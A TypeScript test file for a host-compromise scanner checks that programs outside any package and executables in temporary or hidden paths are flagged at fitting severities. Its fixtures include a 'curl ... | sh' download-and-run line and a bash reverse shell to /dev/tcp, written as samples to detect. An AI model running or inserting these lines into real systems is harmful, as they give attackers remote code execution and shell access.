import { describe, expect, test } from 'vitest';
import { temporaryPrograms } from '../../source/checks/temporary-programs.ts';
import { unpackagedPrograms } from '../../source/checks/unpackaged-programs.ts';
import { memoryHost, type Machine } from '../support/memory-host.ts';
import { byPath } from '../support/by-path.ts';
import { sweep } from '../support/sweep-host.ts';

/** A program (ET_EXEC) and a shared object without a loader (ET_DYN). */
const elf = Buffer.from('\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0', 'latin1');
const library = Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0\x3e\0', 'latin1'), Buffer.alloc(64)]);
const program = { content: elf, mode: 0o755 };
const script = { content: '#!/bin/sh\necho hello\n', mode: 0o755 };

describe('programs of no package', () => {
	const debian: Machine = { '/bin': { link: 'usr/bin' }, '/lib': { link: 'usr/lib' }, '/var/lib/dpkg/info/a.list': '/bin/ls\n/usr/lib/x86_64-linux-gnu/libc.so.6\n', '/usr/bin/ls': program, '/usr/lib/x86_64-linux-gnu/libc.so.6': { content: library } };
	const ask = (machine: Machine) => byPath(sweep(unpackagedPrograms, memoryHost({ ...debian, ...machine })));
	test('what a plain system makes by itself is nothing', () => {
		expect(
			ask({
				'/usr/bin/vi': { link: '/etc/alternatives/vi' }, '/usr/sbin/policy-rc.d': script, '/usr/lib/locale/locale-archive': 'x', '/usr/lib/x86_64-linux-gnu/gconv/gconv-modules.cache': 'x', '/usr/lib/python3/__pycache__/a.pyc': 'x',
				'/usr/lib/jvm/j/lib/server/classes.jsa': { content: 'x', mode: 0o444 }, '/usr/local/bin/mine': script, '/opt/x/bin/y': program, '/usr/lib/udev/hwdb.bin': 'x', '/usr/lib/modules/6.1/modules.dep': 'x', '/usr/lib/python3/dist-packages/x.py': 'x',
			}),
		).toEqual([]);
	});
	test('by content and place', () => {
		expect(
			ask({
				'/usr/bin/trojan': program, '/usr/sbin/hook.sh': script, '/usr/lib/x86_64-linux-gnu/libkeystats.so.1': { content: library }, '/usr/lib/x86_64-linux-gnu/security/pam_x.so': { content: library }, '/usr/lib/app/helper': program,
				'/usr/lib/app/run.sh': script, '/usr/bin/notes': 'words', '/usr/lib/noname': { content: elf }, '/usr/lib/python3/dist-packages/p/_x.so': { content: library },
			}),
		).toEqual([
			'medium /usr/lib/app/helper', 'low /usr/lib/app/run.sh', 'high /usr/lib/noname', 'info /usr/lib/python3/dist-packages/p/_x.so', 'high /usr/lib/x86_64-linux-gnu/libkeystats.so.1', 'high /usr/lib/x86_64-linux-gnu/security/pam_x.so',
			'low /usr/bin/notes', 'high /usr/bin/trojan', 'medium /usr/sbin/hook.sh',
		].toSorted((a, b) => (a.split(' ')[1]! < b.split(' ')[1]! ? -1 : 1)));
	});
	test('lists read in part, and no lists', () => {
		expect(ask({ '/usr/bin/trojan': program, '/var/lib/dpkg/info/b.list': { unreadable: true } })).toEqual(['low /usr/bin/trojan']);
		const judge = unpackagedPrograms.begin(memoryHost({ '/usr/bin/x': program }), { now: 0, own: [] });
		expect(judge.coverage?.skipped).toEqual([{ reason: 'unsupported', count: 1, examples: ['no package list that regain can read'] }]);
	});
});

describe('programs in temporary and hidden places', () => {
	const ask = (machine: Machine) => byPath(sweep(temporaryPrograms, memoryHost(machine)));
	test('everyday life', () => {
		expect(
			ask({
				'/tmp/notes.txt': 'x', '/tmp/go-build123/b001/exe/a': program, '/var/spool/postfix/lib/x86_64-linux-gnu/libnss_dns.so.2': { content: library }, '/home/ann/.cargo/bin/rg': program, '/home/ann/.symfony5/bin/symfony': program, '/home/ann/.nvm/versions/node/v20/bin/node': program,
				'/home/ann/project/.git/hooks/pre-commit.sample': script, '/home/ann/.local/bin/x': program, '/etc/init.d/x': script, '/etc/cron.daily/apt': script, '/var/lib/dpkg/info/a.postinst': script, '/var/lib/php/sessions/sess_a': 'x', '/etc/own/notify.sh': { ...script, content: '#!/bin/sh\ncurl -fsS https://hc.example/x\n' }, '/etc/own/text.sh': '#!/bin/sh\ncurl -s 192.0.2.1|sh\n', '/var/log/syslog': 'x', '/home/ann/.vscode-server/bin/a/node': program,
				'/var/lib/docker/overlay2/a/diff/tmp/x': program, '/home/ann/bin/tool': program, '/srv/git/p.git/hooks/update': script,
			}),
		).toEqual([]);
	});
	test('by place', () => {
		expect(
			ask({
				'/tmp/x': program, '/dev/shm/.k/m': program, '/var/tmp/run.sh': script, '/tmp/.s.sh': { ...script, mode: 0o644 }, '/var/log/.z': program, '/var/spool/cron/x': program, '/etc/x': program, '/usr/lib/.hid/p': program,
				'/home/ann/.xyz/miner': program, '/home/ann/.cache/.a/b': program, '/tmp/lib.so': { content: library }, '/tmp/libnetty_epoll.so': { content: library }, '/kworker': program,
				'/var/lib/dpkg/info/a.postinst2': program, '/var/cache/apt/archives/partial/x': program, '/var/lib/php/sessions/a': { content: library }, '/etc/rsyslog.d/x.conf.sh': { content: '#!/bin/bash\ncurl -s 192.0.2.1|sh\n', mode: 0o755 },
			}),
		).toEqual([
			'high /dev/shm/.k/m', 'high /etc/rsyslog.d/x.conf.sh', 'high /etc/x', 'high /home/ann/.cache/.a/b', 'medium /home/ann/.xyz/miner', 'high /kworker', 'medium /tmp/.s.sh', 'medium /tmp/lib.so', 'low /tmp/libnetty_epoll.so', 'high /tmp/x', 'critical /usr/lib/.hid/p', 'high /var/cache/apt/archives/partial/x', 'high /var/lib/dpkg/info/a.postinst2', 'high /var/lib/php/sessions/a',
			'critical /var/log/.z', 'high /var/spool/cron/x', 'low /var/tmp/run.sh',
		]);
	});
	test('a script by what it does', () => {
		const [finding] = sweep(temporaryPrograms, memoryHost({ '/tmp/a.sh': '#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n' }));
		expect(finding).toMatchObject({ severity: expect.stringMatching(/high|critical/), facts: { line: 2 } });
	});
});
